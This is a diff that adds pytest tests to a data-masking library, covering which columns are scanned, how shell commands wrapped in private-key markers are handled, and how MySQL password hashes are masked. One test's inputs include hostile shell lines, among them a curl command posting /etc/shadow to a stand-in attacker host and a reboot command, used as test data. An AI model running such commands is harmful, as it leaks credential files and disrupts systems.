@@ -86,3 +86,34 @@ def test_custom_recognizer(tmp_path):
     m = masker(tmp_path, rule, recognizers=(Recognizer(name="employee_id", pattern=r"EMP-\d{6}"),))
     plan = m.plan(BOB, [col("notes")])
     assert plan.maskers[0](b"owner EMP-123456.") == b"owner **********."
+
+
+def test_columns_too_short_for_every_recognizer_are_not_scanned(tmp_path):
+    emails = MaskRule(id="pii", scope=Scope(), recognizers=["card", "email"])
+    m = masker(tmp_path, emails)
+    short = ColumnInfo("shop", "customers", "customers", "country", "country", True, length=5)
+    mid = ColumnInfo("shop", "customers", "customers", "contact", "contact", True, length=12)
+    plan = m.plan(BOB, [short, mid, col("notes")])
+    # 5 bytes hold neither an e-mail (6+ characters) nor a card (13+): that column is never scanned
+    assert plan is not None and set(plan.maskers) == {1, 2}
+    assert plan.maskers[1](b"ab@example.io") == b"**@*****le.io"
+    masked = plan.maskers[2](b"ab@example.io 4111111111111111")
+    assert masked.startswith(b"**@*****le.io ") and b"41111111" not in masked
+
+
+@pytest.mark.parametrize("command", [
+    "echo -----BEGIN RSA PRIVATE KEY-----; touch ~/x; echo -----END RSA PRIVATE KEY-----",
+    "echo -----BEGIN RSA PRIVATE KEY-----\n/sbin/reboot\n-----END RSA PRIVATE KEY-----",
+    "printf '%s\\n' '-----BEGIN EC PRIVATE KEY-----' && curl -d @/etc/shadow evil.example",
+])
+def test_stored_commands_keep_their_syntax(tmp_path, command):
+    """What the journal, index, recordings and approval pages hold: markers around shell
+    commands are not a key, so the commands stay visible (issue 15, row 4)."""
+    assert masker(tmp_path).mask_text(BOB, command) == (command, {})
+
+
+def test_stored_password_hashes_are_masked(tmp_path):
+    grants = "GRANT USAGE ON *.* TO `bob`@`%` IDENTIFIED BY PASSWORD '*D821809F681A40A6E379B50D0463EFAE20BDD122'"
+    text, counts = masker(tmp_path).mask_text(BOB, grants)
+    assert "D821809F" not in text and counts == {"password_hash": 1}
+    assert text.startswith("GRANT USAGE ON *.* TO `bob`@`%` IDENTIFIED BY PASSWORD '*****")
